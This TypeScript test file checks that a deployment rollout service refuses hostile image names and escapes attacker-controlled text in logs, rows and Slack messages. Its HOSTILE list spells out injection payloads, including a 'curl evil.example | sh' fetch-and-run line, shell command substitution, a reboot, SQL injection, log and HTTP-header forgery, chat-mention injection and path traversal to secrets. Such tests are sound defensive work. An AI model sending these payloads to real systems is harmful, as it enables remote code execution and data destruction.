import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, expect, it } from "vitest";
import { startStack } from "../../src/local-stack/stack.ts";
import { until } from "../support/until.ts";
import { imageOf, NEW, OLD, ROLLOUT, World } from "../support/world.ts";

/** Each would do something to a shell, a database, a chat, a log or a reader, were it taken for more than text. */
const HOSTILE = [
  "x:v1; curl evil.example | sh",
  "x:$(id)",
  "x:`id`",
  "x:v1 && reboot",
  'x:v1","deploy_status":"ready',
  'x:v1"}\n{"level":60,"msg":"forged"}',
  "x:v1'; DROP TABLE sentinels; --",
  "x:v1' OR '1'='1",
  "x:v1\\",
  "<!channel>:v1",
  "x:v1<http://evil.example|click>",
  "x:v1&amp;",
  "x:v1\nforged line",
  "x:v1\r\n\r\nHTTP/1.1 200 OK",
  "x:\u001b[2J\u001b[31mv1",
  "x:v1\u202egnp.exe",
  "x:v1\u200b",
  "х:v1",
  "x:v1/../../secrets",
  "x:v1?dryRun=All",
];
/** What a reader must never get to see as it is. */
const UNSEEN = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

let world: World;
beforeAll(async () => {
  world = new World(await startStack({ sentinels: 4 }));
});
afterAll(() => world.close());

it("an image that is more than an image is refused, and gets nowhere", async () => {
  const before = JSON.stringify([await world.rows(), [...(await world.images())].sort()]);
  for (const image of HOSTILE) {
    for (const path of [
      `${ROLLOUT}/Rollout`,
      `${ROLLOUT}/Plan`,
      "hydra.v1.SentinelService/sen_0001/Deploy",
    ]) {
      const body = JSON.stringify({ image });
      const headers = { "content-type": "application/json" };
      const response = await fetch(`${world.stack.ingress}/${path}`, { method: "POST", headers, body });
      const { message } = (await response.json()) as { message: string };
      expect(response.status, `${path} ${body}`).toBe(400);
      expect(message).toMatch(/^The field image must [^\n]{9,299}\.$/);
    }
  }
  await world.quiet();
  expect(JSON.stringify([await world.rows(), [...(await world.images())].sort()])).toBe(before);
  expect(world.stack.slack.attempts).toBe(0);
  for (const line of (await readFile(world.stack.service.logFile, "utf8")).trim().split("\n")) {
    expect(JSON.parse(line)).toMatchObject({ service: "sentinel-rollout" });
  }
});

it("what somebody writes into the cluster is shown as harmless text wherever it turns up", async () => {
  const hostile = `evil:v1\n<!channel> & <http://evil.example|sign in> \u001b[31mred\u001b[0m \u202eabc ${"long ".repeat(600)}`;
  await world.fault("sen_0001", "slow:30", NEW);
  const rollout = await world.start("Rollout", { image: NEW, wave_percentages: [100] });
  await until("the patch", async () => imageOf((await world.deployments()).get("sen_0001")) === NEW);
  await world.setImage("sen_0001", hostile);
  const { body } = await world.answer(rollout);
  expect(body).toMatchObject({ state: "paused", failed: 1 });
  await world.quiet();

  const { deploy_error } = await world.row("sen_0001");
  const [failure] = (await world.status()).failures;
  const state = await world.state();
  const reasons = [deploy_error, failure?.reason, state?.failureReasons.sen_0001, body.failures[0]?.reason];
  for (const reason of reasons) {
    expect(reason).toMatch(/^image was changed to evil:v1 <!channel> & <http:.* red abc long long/);
    expect(reason).not.toMatch(/\n/);
    expect(reason).not.toMatch(UNSEEN);
    expect(reason?.length).toBeLessThanOrEqual(1_024);
  }

  const paused = world.stack.slack.messages.at(-1);
  const texts = [paused?.text, ...JSON.stringify(paused?.blocks).split('"text":').slice(1)];
  expect(texts.join()).toContain("evil:v1 &lt;!channel&gt; &amp; &lt;http:");
  for (const text of texts) {
    expect(text).not.toMatch(/[<>]/);
    expect(text).not.toMatch(UNSEEN);
    expect(text?.length).toBeLessThanOrEqual(3_000);
  }
  for (const line of (await readFile(world.stack.service.logFile, "utf8")).trim().split("\n")) {
    expect(JSON.parse(line)).toMatchObject({ service: "sentinel-rollout" });
    expect(line).not.toMatch(UNSEEN);
    expect(line.length).toBeLessThan(3_000);
  }

  // The others are well, and the watcher goes on for all.
  expect((await world.rows()).slice(1).map(({ deploy_status }) => deploy_status)).toEqual(
    Array(3).fill("ready"),
  );
  await world.fault("sen_0001", "", OLD);
  expect((await world.deploy("sen_0001", { image: OLD })).body).toEqual({ status: "ready" });
});
